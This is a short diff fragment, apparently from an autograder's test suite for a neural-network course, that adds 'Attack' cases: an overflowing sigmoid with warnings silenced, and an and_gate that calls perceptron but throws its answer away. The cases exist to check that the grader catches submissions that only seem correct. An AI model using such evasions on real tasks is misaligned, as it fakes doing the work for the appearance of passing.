+        "sigmoid that overflows: each call runs in a fresh process, so the overflow is still seen",
+        _save(with_cell(SILENCE_WARNINGS, sigmoid="def sigmoid(z):\n    return 1 / (1 + np.exp(-z))\n")),
+        ("sigmoid", "sigmoid_grad"),
+        ("overflow",),
+    ),
+    Attack(
+        "throw_away_spy_call",
+        "and_gate calls perceptron and throws the answer away",
+        _save(answers("01_neuron", and_gate=THROW_AWAY_SPY), "01_neuron"),
+        ("and_gate",),
+        ("must build its result from what perceptron returns",),
+        assignment="01_neuron",
+    ),
 ]
